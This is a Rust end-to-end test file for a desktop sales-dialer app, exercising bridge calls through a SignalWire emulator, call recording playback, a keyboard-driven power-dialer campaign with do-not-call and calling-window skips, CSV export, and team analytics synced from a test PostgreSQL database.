    click(&c, "nav-settings").await;
    click(&c, "settings-route-bridge").await;
    eventually(&desktop, &c, "the bridge route is chosen", || async {
        element(&c, "settings-route-bridge").await.prop("checked").await.ok().flatten().as_deref() == Some("true")
    })
    .await;
    type_into(&c, "settings-agent-phone", "+1 617 555 0199").await;
    click(&c, "settings-calls-save").await;
    c.wait().at_most(Duration::from_secs(15)).for_element(tid("settings-calls-saved")).await.expect("route saved");
    click(&c, "nav-leads").await;
    eventually(&desktop, &c, "Ann is listed again", || async {
        row_names(&c).await.iter().any(|r| r.contains("Ann Archer"))
    })
    .await;
    click(&c, "lead-call").await;
    eventually(&desktop, &c, "the bridge call is in the panel", || async { shown(&c, "call-hangup").await }).await;
    desktop.screenshot(&c, "10-bridge-call-placed").await;
    // The panel shows the call while SignalWire is asked; the request follows.
    eventually(&desktop, &c, "SignalWire gets the bridge call", || async { !emu.calls().is_empty() }).await;
    let placed = emu.calls();
    assert_eq!(placed.len(), 1, "one bridge call at SignalWire");
    assert_eq!(placed[0].2, "+16175550199", "the agent's phone rings first");
    eventually(&desktop, &c, "the bridge call connects", || async {
        text(&c, "call-card").await.to_lowercase().contains("progress") || text(&c, "call-card").await.contains("0:0")
    })
    .await;
    desktop.screenshot(&c, "10-bridge-call").await;
    click(&c, "call-hangup").await;
    wrap_up(&desktop, &c, "voicemail", "Left a voicemail via the bridge", "11-bridge-wrap-up").await;
    click(&c, "nav-history").await;
    type_into(&c, "history-filter-text", "bridge").await;
    eventually(&desktop, &c, "the bridge call is in the history, found by its note", || async {
        let rows = c.find_all(tid("history-row")).await.unwrap_or_default();
        rows.len() == 1
    })
    .await;
    desktop.screenshot(&c, "12-history-bridge").await;

    // --- a recorded bridge call from the dialer, then its recording played from the cache ---
    click(&c, "nav-dialer").await;
    type_into(&c, "dialer-input", "(312) 555-0142").await;
    click(&c, "dialer-record").await;
    eventually(&desktop, &c, "recording is on for this call", || async {
        element(&c, "dialer-record").await.prop("checked").await.ok().flatten().as_deref() == Some("true")
    })
    .await;
    // The number is looked up as it is typed; Dial acts on the looked-up number.
    eventually(&desktop, &c, "the dialer matched Ann and Dial is enabled", || async {
        text(&c, "dialer-lead").await.contains("Ann Archer")
            && c.find(tid("dial-button")).await.ok().is_some()
            && c.find(tid("dial-button")).await.expect("dial").attr("disabled").await.ok().flatten().is_none()
    })
    .await;
    desktop.screenshot(&c, "12b-dialer-recorded-bridge-call").await;
    click(&c, "dial-button").await;
    eventually(&desktop, &c, "SignalWire gets the recorded bridge call", || async { emu.calls().len() == 2 }).await;
    eventually(&desktop, &c, "the recorded call connects", || async { text(&c, "call-card").await.contains("0:0") })
        .await;
    // The emulator's calls end by themselves after a moment; hang up if this one has not.
    if let Ok(hang_up) = c.find(tid("call-hangup")).await {
        let _ = hang_up.click().await;
    }
    c.wait().at_most(Duration::from_secs(20)).for_element(tid("wrapup-dialog")).await.expect("wrap-up");
    click(&c, "wrapup-choice-answered").await;
    click(&c, "wrapup-save").await;
    eventually(&desktop, &c, "the wrap-up closes", || async { !shown(&c, "wrapup-dialog").await }).await;
    let recorded_sid = emu.calls().last().expect("the recorded call").0.clone();
    for _ in 0..50 {
        if !emu.recordings_of(&recorded_sid).is_empty() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(
        !emu.recordings_of(&recorded_sid).is_empty(),
        "SignalWire recorded the call: {}",
        emu.call_summary(&recorded_sid)
    );
    click(&c, "nav-recordings").await;
    click(&c, "recordings-sync").await;
    eventually(&desktop, &c, "the recording is listed under Ann", || async {
        shown(&c, "recording-group").await && text(&c, "recording-group-title").await.contains("Ann Archer")
    })
    .await;
    click(&c, "recording-item").await;
    // Loaded, with the length the file itself says: the audio element decoded the cached WAV.
    eventually(&desktop, &c, "the player loaded the cached audio", || async {
        let state = c
            .execute(
                "const a = document.querySelector('[data-testid=recording-audio]'); return a ? [a.readyState, a.error ? a.error.code : 0, a.duration] : null;",
                vec![],
            )
            .await
            .ok();
        let ready = state.as_ref().and_then(|v| v.as_array()).is_some_and(|a| {
            a[0].as_u64().is_some_and(|r| r >= 1) && a[1].as_u64() == Some(0) && a[2].as_f64().is_some_and(|d| d > 0.5)
        });
        ready && !shown(&c, "recording-error").await
    })
    .await;
    click(&c, "recording-play").await;
    eventually(&desktop, &c, "the recording plays", || async {
        c.execute("const a = document.querySelector('[data-testid=recording-audio]'); return a && (a.currentTime > 0 || a.ended);", vec![])
            .await
            .ok()
            .and_then(|v| v.as_bool())
            .unwrap_or(false)
    })
    .await;
    desktop.screenshot(&c, "13-recording").await;
    desktop.quit(c).await;

    // Nothing secret in what the app logged (its stderr, in tauri-driver's log): no SRTP keys
    // from the SDP, no digest answers, no SIP password, no SignalWire token.
    let log =
        std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("artifacts/e2e-calls/tauri-driver.log"))
            .expect("the app's log");
    for secret in ["a=crypto", "inline:", "response=\"", "alicepw", SW_TOKEN] {
        assert!(!log.contains(secret), "the app's log has no {secret:?}");
    }
}

/// The power dialer in the real window, over real SIP peers (Kamailio; baresip phones registered
/// as the leads' numbers): a campaign of seven leads created in the Campaigns page and worked in
/// its session with the keyboard. Ann answers (Interested), Bob's line is busy (486), Cid's phone
/// rings until the agent gives up (No Answer), Dee's answers and gets the voicemail drop (V: the
/// agent moves on at once, Dee's phone hears the message, the call hangs up by itself), Eve is Do
/// Not Call and Fay is outside her calling window (both never dialed, with their reasons), Gil
/// answers (Interested). Then the results and the CSV export match what happened. Then a copy of
/// the campaign makes its first two calls over the bridge route (SignalWire served by the
/// emulator: the agent's phone rings first, then the lead's leg). Screenshots of each step go to
/// `artifacts/e2e-campaign/`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_campaign_in_the_real_window_dials_in_order_skips_what_it_must_and_drops_a_voicemail() {
    let _one_at_a_time = SERIAL.lock().await;
    use ringdesk_testkit::{AnswerMode, Baresip, Kamailio, PulseAudio, speech_wav};
    let kam = Kamailio::start().expect("kamailio");
    let pulse = PulseAudio::start().expect("pulseaudio with a null sink for the app's audio devices");
    let emu = ringdesk_testkit::signalwire::SignalWireEmulator::start(SW_PROJECT, SW_TOKEN).await.expect("emulator");
    emu.own_number(SW_NUMBER);
    let desktop = Desktop::start_with(
        "e2e-campaign",
        &[("PULSE_SERVER", &pulse.server()), ("RINGDESK_SIGNALWIRE_URL", &emu.origin())],
    );
    let talk = desktop.dir().join("talk.wav");
    speech_wav(&talk, 60).expect("speech for the leads' phones");
    let phone = |number: &str, mode: AnswerMode| {
        let p = Baresip::start(number, &kam.addr(), &talk, mode, false).expect("a lead's phone");
        p.wait_registered(Duration::from_secs(5)).expect("it registers");
        p
    };
    let mut ann = phone("13125550142", AnswerMode::Auto);
    let mut bob = phone("12125550123", AnswerMode::Manual);
    let mut cid = phone("13125550111", AnswerMode::Manual);
    let mut dee = phone("12125550188", AnswerMode::Auto);
    let mut gil = phone("13125550147", AnswerMode::Auto);

    // The leads (in the list's order), the SIP line, and a voicemail message the agent recorded.
    let (open, closed) = (ringdesk_testkit::zone_at(12), ringdesk_testkit::zone_at(3));
    let message = desktop.dir().join("message.wav");
    speech_wav(&message, 4).expect("the message");
    let db = desktop.dir().join("ringdesk.db");
    let message_path = message.display().to_string();
    let registrar = kam.addr();
    let list_id = with_db(&db, move |seed| {
        use ringdesk_app::ipc::{CallRoute, LeadPatch, SettingsUpdate, SipTransport};
        let list = seed.create_list("Q4 push list", None).expect("list");
        let leads = [
            ("Ann Archer", "(312) 555-0142", "new", &open),
            ("Bob Baker", "(212) 555-0123", "new", &open),
            ("Cid Cole", "(312) 555-0111", "new", &open),
            ("Dee Dunn", "(212) 555-0188", "new", &open),
            ("Eve Evans", "(206) 555-0101", "do_not_call", &open),
            ("Fay Fox", "(206) 555-0102", "new", &closed),
            ("Gil Gray", "(312) 555-0147", "new", &open),
        ];
        let mut ids = Vec::new();
        for (name, phone, status, zone) in leads {
            let lead = seed
                .create_lead(&LeadPatch {
                    name: Some(name.into()),
                    phone: Some(phone.into()),
                    status: Some(status.into()),
                    timezone: Some(zone.to_string()),
                    ..LeadPatch::default()
                })
                .expect("lead");
            ids.push(lead.id);
        }
        seed.store()
            .write(|w| {
                for id in &ids {
                    ringdesk_store::lists::add_member(w, &list.id, id)?;
                }
                Ok::<_, ringdesk_store::StoreError>(())
            })
            .expect("members");
        seed.update_settings(&SettingsUpdate {
            sip_registrar: Some(registrar),
            sip_username: Some("alice".into()),
            sip_transport: Some(SipTransport::Udp),
            default_route: Some(CallRoute::Softphone),
            signalwire_space: Some("example".into()),
            signalwire_project_id: Some(SW_PROJECT.into()),
            caller_id: Some(SW_NUMBER.into()),
            agent_phone: Some("+16175550199".into()),
            ..SettingsUpdate::default()
        })
        .expect("settings");
        seed.import_voicemail("Intro", &message_path).expect("the message");
        list.id
    });
    let db_arg = db.to_str().expect("utf-8 path").to_string();
    let c = desktop.launch_with_args(&["--db", &db_arg]).await;
    save_sip_password(&c, "alicepw").await;
    type_into(&c, "settings-sw-token", SW_TOKEN).await;
    click(&c, "settings-sw-save").await;
    element(&c, "settings-sw-saved").await;
    eventually(&desktop, &c, "the phone line registers", || async { phone_ready(&c).await }).await;

    // --- the campaign, created in the Campaigns page ---
    click(&c, "nav-campaigns").await;
    click(&c, "new-campaign").await;
    type_into(&c, "campaign-name", "Q4 push").await;
    c.find(tid("campaign-list")).await.expect("list picker").select_by_value(&list_id).await.expect("the list");
    desktop.screenshot(&c, "01-new-campaign").await;
    click(&c, "campaign-save").await;
    eventually(&desktop, &c, "the campaign is listed as a draft", || async {
        text(&c, "campaign-status").await.contains("Draft")
    })
    .await;
    click(&c, "campaign-start").await;
    eventually(&desktop, &c, "the session offers Ann", || async {
        text(&c, "session-lead-name").await.contains("Ann Archer")
    })
    .await;
    assert!(text(&c, "session-lead-why").await.contains("In its window"), "why Ann may be called");
    let waiting = text(&c, "session-waiting").await;
    assert!(waiting.contains("Fay Fox") && waiting.contains("08:00 in"), "Fay waits for her window: {waiting}");
    let passed = text(&c, "session-passed-over").await;
    assert!(passed.contains("Eve Evans") && passed.contains("Do Not Call"), "Eve is passed over with why: {passed}");
    desktop.screenshot(&c, "02-session").await;
    let keys = |k: &'static str| {
        let c = c.clone();
        async move { c.active_element().await.expect("focus").send_keys(k).await.expect("a key") }
    };

    // --- Ann answers: Interested ---
    keys("d").await;
    ann.wait_event("CALL_ESTABLISHED", Duration::from_secs(15)).expect("Ann's phone answered");
    eventually(&desktop, &c, "the session is in the call", || async {
        text(&c, "session-state").await.contains("In a call")
    })
    .await;
    tokio::time::sleep(Duration::from_millis(1500)).await;
    desktop.screenshot(&c, "03-in-call").await;
    click(&c, "call-hangup").await;
    wrap_up_as(&desktop, &c, "interested", "04-wrap-up-interested").await;

    // --- Bob's line is busy ---
    eventually(&desktop, &c, "the session offers Bob", || async {
        text(&c, "session-lead-name").await.contains("Bob Baker")
    })
    .await;
    keys("d").await;
    bob.wait_event("CALL_INCOMING", Duration::from_secs(15)).expect("Bob's phone rings");
    bob.command("hangup", "").expect("Bob's phone declines: 486");
    wrap_up_as(&desktop, &c, "busy", "05-wrap-up-busy").await;

    // --- Cid's phone rings and rings: the agent gives up ---
    eventually(&desktop, &c, "the session offers Cid", || async {
        text(&c, "session-lead-name").await.contains("Cid Cole")
    })
    .await;
    keys("d").await;
    cid.wait_event("CALL_INCOMING", Duration::from_secs(15)).expect("Cid's phone rings");
    eventually(&desktop, &c, "the call panel shows Cid's ringing call", || async {
        text(&c, "call-lead-name").await.contains("Cid Cole")
    })
    .await;
    tokio::time::sleep(Duration::from_secs(2)).await;
    desktop.screenshot(&c, "06-ringing").await;
    click(&c, "call-hangup").await;
    cid.wait_event("CALL_CLOSED", Duration::from_secs(10)).expect("Cid's phone stops ringing");
    wrap_up_as(&desktop, &c, "no_answer", "06-wrap-up-no-answer").await;

    // --- Dee answers: the voicemail drop, and the session moves on at once ---
    eventually(&desktop, &c, "the session offers Dee", || async {
        text(&c, "session-lead-name").await.contains("Dee Dunn")
    })
    .await;
    keys("d").await;
    dee.wait_event("CALL_ESTABLISHED", Duration::from_secs(15)).expect("Dee's phone answered");
    eventually(&desktop, &c, "the session is in Dee's call", || async {
        text(&c, "session-state").await.contains("In a call")
    })
    .await;
    keys("v").await;
    eventually(&desktop, &c, "the session offers Gil while Dee's message plays", || async {
        text(&c, "session-lead-name").await.contains("Gil Gray")
    })
    .await;
    desktop.screenshot(&c, "07-voicemail-dropped").await;
    dee.wait_event("CALL_CLOSED", Duration::from_secs(15)).expect("Dee's call hung up by itself after the message");
    assert!(!shown(&c, "wrapup-dialog").await, "no wrap-up is asked for the voicemail call");
    tokio::time::sleep(Duration::from_millis(300)).await;
    let heard =
        ringdesk_testkit::read_wav(dee.received_recordings().first().expect("Dee's phone recorded")).expect("wav");
    let reference: Vec<i16> = (0..32_000).map(ringdesk_testkit::speechlike).collect();
    let (similarity, _) = ringdesk_testkit::similarity(&reference, &heard);
    assert!(similarity > 0.9, "Dee's phone heard the message (similarity {similarity:.3})");

    // --- Gil answers: Interested; then nothing is callable now ---
    keys("d").await;
    gil.wait_event("CALL_ESTABLISHED", Duration::from_secs(15)).expect("Gil's phone answered");
    tokio::time::sleep(Duration::from_millis(1000)).await;
    click(&c, "call-hangup").await;
    wrap_up_as(&desktop, &c, "interested", "08-wrap-up-gil").await;
    eventually(&desktop, &c, "the session waits: Bob and Cid retry later, Fay's window is closed", || async {
        text(&c, "session-state").await.contains("Waiting")
    })
    .await;
    let waiting = text(&c, "session-waiting").await;
    assert!(waiting.contains("Bob Baker") && waiting.contains("Cid Cole"), "the retries are scheduled: {waiting}");
    desktop.screenshot(&c, "09-waiting").await;

    // --- the results, in the window and in the CSV ---
    eventually(&desktop, &c, "the results count five dials", || async { text(&c, "stats-dials").await == "5" }).await;
    let outcomes = text(&c, "stats-outcomes").await;
    for want in ["Interested: 2", "Busy: 1", "No answer: 1", "Left voicemail: 1"] {
        assert!(outcomes.contains(want), "the results show {want}: {outcomes}");
    }
    desktop.screenshot(&c, "10-results").await;
    click(&c, "session-end").await;
    let csv = desktop.dir().join("results.csv");
    desktop.answer_file_dialogs(&csv);
    c.wait()
        .at_most(Duration::from_secs(15))
        .for_element(fantoccini::Locator::Css("[aria-label='Export results of Q4 push']"))
        .await
        .expect("the export button")
        .click()
        .await
        .expect("export");
    eventually(&desktop, &c, "the CSV is written", || async { csv.exists() }).await;
    let rows = std::fs::read_to_string(&csv).expect("the CSV");
    let lines: Vec<&str> = rows.lines().collect();
    assert_eq!(lines.len(), 8, "a header and one row per lead: {rows}");
    for (name, outcome, attempts) in [
        ("Ann Archer", "interested", "1"),
        ("Bob Baker", "busy", "1"),
        ("Cid Cole", "no_answer", "1"),
        ("Dee Dunn", "left_voicemail", "1"),
        ("Eve Evans", "", "0"),
        ("Fay Fox", "", "0"),
        ("Gil Gray", "interested", "1"),
    ] {
        let line = lines.iter().find(|l| l.starts_with(name)).unwrap_or_else(|| panic!("{name}'s row: {rows}"));
        let cells: Vec<&str> = line.split(',').collect();
        assert_eq!((cells[2], cells[3]), (outcome, attempts), "{name}'s outcome and attempts: {line}");
    }

    // --- a copy of the campaign, its first two calls over the bridge route ---
    with_db(&db, |settings| {
        settings
            .update_settings(&ringdesk_app::ipc::SettingsUpdate {
                default_route: Some(ringdesk_app::ipc::CallRoute::Bridge),
                ..Default::default()
            })
            .expect("the bridge route by default")
    });
    c.wait()
        .at_most(Duration::from_secs(15))
        .for_element(fantoccini::Locator::Css("[aria-label='Duplicate Q4 push']"))
        .await
        .expect("the duplicate button")
        .click()
        .await
        .expect("duplicate");
    c.wait()
        .at_most(Duration::from_secs(15))
        .for_element(fantoccini::Locator::Css("[data-testid='campaign-Q4 push (copy)'] [data-testid=campaign-start]"))
        .await
        .expect("the copy's start button")
        .click()
        .await
        .expect("start");
    for (name, number) in [("Ann Archer", "+13125550142"), ("Bob Baker", "+12125550123")] {
        eventually(&desktop, &c, &format!("the copy's session offers {name}"), || async {
            text(&c, "session-lead-name").await.contains(name)
        })
        .await;
        keys("d").await;
        eventually(&desktop, &c, "the bridge call is placed", || async {
            emu.lead_legs().iter().any(|l| l.2 == number)
        })
        .await;
        desktop.screenshot(&c, &format!("11-bridge-{}", name.split(' ').next().unwrap_or(name))).await;
        wrap_up_as(&desktop, &c, "answered", &format!("12-bridge-wrap-up-{}", &number[number.len() - 4..])).await;
    }
    let calls = emu.calls();
    assert_eq!(calls.len(), 2, "two bridge calls: {calls:?}");
    eventually(&desktop, &c, "the copy's results count both bridge calls as connects", || async {
        text(&c, "stats-connects").await.starts_with("2 ")
    })
    .await;
    assert!(
        calls.iter().all(|c| c.1 == SW_NUMBER && c.2 == "+16175550199"),
        "from our number, the agent's phone first: {calls:?}"
    );
    desktop.quit(c).await;
}

/// The wrap-up step of the call that just ended, saved with `outcome` alone.
async fn wrap_up_as(desktop: &Desktop, c: &Client, outcome: &str, shot: &str) {
    c.wait().at_most(Duration::from_secs(20)).for_element(tid("wrapup-dialog")).await.expect("the wrap-up step opens");
    click(c, &format!("wrapup-choice-{outcome}")).await;
    desktop.screenshot(c, shot).await;
    click(c, "wrapup-save").await;
    eventually(desktop, c, "the wrap-up step closes after saving", || async { !shown(c, "wrapup-dialog").await }).await;
}

/// A manager's desktop synced from a throwaway PostgreSQL: the web CRM holds the calls of two
/// agents of the manager's team and of one agent outside it; the desktop pulls the team's (and
/// only those) through the sync, and the Analytics page's team table shows each agent's dials,
/// connect rate and conversations exactly as the backend's own SQL counts them.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_manager_s_desktop_shows_the_team_s_numbers_as_the_backend_counts_them() {
    let _one_at_a_time = SERIAL.lock().await;
    let cluster = ringdesk_testkit::postgres::PgCluster::start().expect("a throwaway PostgreSQL cluster (postgresql)");
    let db = cluster.create_database("crm", None).expect("a database");
    ringdesk_app::migrate_backend(&cluster.url(&db, "postgres")).expect("the backend migrations apply");
    let sql = |q: &str| cluster.psql(&db, q).unwrap_or_else(|e| panic!("psql: {e}\n{q}"));
    let agents = [
        ("mgr", "0190b000-0000-7000-8000-0000000000aa"),
        ("ann", "0190b000-0000-7000-8000-0000000000a1"),
        ("bob", "0190b000-0000-7000-8000-0000000000b2"),
        ("cat", "0190b000-0000-7000-8000-0000000000c3"),
    ];
    for (role, id) in agents {
        cluster.ensure_role(role, &["ringdesk_agent"]).expect("a login role per agent");
        sql(&format!("insert into sync.agent_role values ('{role}', '{id}')"));
    }
    // The web's calls of the last days: (agent, calls, answered, of which talked 60 s or more).
    for (i, (agent, calls, answered, talked)) in [(1, 7, 4, 3), (2, 5, 2, 1), (3, 6, 6, 6)].into_iter().enumerate() {
        let id = agents[agent].1;
        sql(&format!(
            "insert into call_logs(user_id, contact_number, direction, status, started_at, answered_at, ended_at)
             select '{id}', '+1202555{i}' || lpad(g::text, 3, '0'), 'outbound',
                    case when g <= {answered} then 'completed' else 'no-answer' end,
                    now() - make_interval(hours => g * 5),
                    case when g <= {answered} then now() - make_interval(hours => g * 5) + interval '5 seconds' end,
                    now() - make_interval(hours => g * 5) + case when g <= {talked} then interval '125 seconds'
                                                              else interval '35 seconds' end
               from generate_series(1, {calls}) g"
        ));
    }
    let team = sql("insert into sync.team(name) values ('East') returning id");
    for (agent, role) in [(0, "manager"), (1, "agent"), (2, "agent")] {
        sql(&format!("insert into sync.team_member values ('{team}', '{}', '{role}')", agents[agent].1));
    }

    let desktop = Desktop::start_with("e2e-manager", &[]);
    let url = cluster.url(&db, "mgr");
    with_db(&desktop.dir().join("ringdesk.db"), move |seed| {
        let update = ringdesk_app::ipc::SettingsUpdate { backend_url: Some(url), ..Default::default() };
        seed.update_settings(&update).expect("the backend in Settings");
    });
    let c = desktop.launch().await;
    click(&c, "nav-analytics").await;
    let rows = || async {
        let mut out = Vec::new();
        for row in
            c.find_all(fantoccini::Locator::Css("[data-testid=analytics-team] tbody tr")).await.unwrap_or_default()
        {
            let mut cells = Vec::new();
            for cell in row.find_all(fantoccini::Locator::Css("th, td")).await.unwrap_or_default() {
                cells.push(cell.text().await.unwrap_or_default());
            }
            out.push(cells);
        }
        out
    };
    eventually(&desktop, &c, "the team's calls are pulled and tabled", || async { rows().await.len() >= 2 }).await;
    desktop.screenshot(&c, "01-team-analytics").await;
    c.execute("document.querySelector('[data-testid=analytics-card-team]').scrollIntoView()", vec![])
        .await
        .expect("scroll to the team card");
    desktop.screenshot(&c, "02-team-table").await;

    // The backend's own count, as the superuser (no RLS): per agent of the team, the outbound
    // calls of the last 30 days, those answered, and those with 60 s or more of talk.
    let counted = sql(&format!(
        "select user_id || '|' || count(*) || '|' || count(answered_at) || '|' ||
                count(*) filter (where ended_at - answered_at >= interval '60 seconds')
           from call_logs where direction = 'outbound' and started_at > now() - interval '30 days'
            and user_id in ('{}', '{}') group by user_id order by count(*) desc",
        agents[1].1, agents[2].1
    ));
    let shown_rows = rows().await;
    let table: Vec<String> =
        shown_rows.iter().map(|r| r.iter().take(4).cloned().collect::<Vec<_>>().join("|")).collect();
    let expected: Vec<String> = counted
        .lines()
        .map(|l| {
            let p: Vec<&str> = l.split('|').collect();
            let (dials, answered): (f64, f64) = (p[1].parse().expect("n"), p[2].parse().expect("n"));
            format!("{}|{}|{:.1} %|{}", p[0], p[1], answered * 100.0 / dials, p[3])
        })
        .collect();
    assert_eq!(expected.len(), 2, "the backend counts two team agents: {counted}");
    assert_eq!(table, expected, "the team table shows the backend's counts for the two agents, and no one else");
    assert!(
        !shown_rows.iter().flatten().any(|cell| cell.contains(agents[3].1)),
        "the agent outside the team is not on the manager's desktop: {shown_rows:?}"
    );
    desktop.quit(c).await;
}
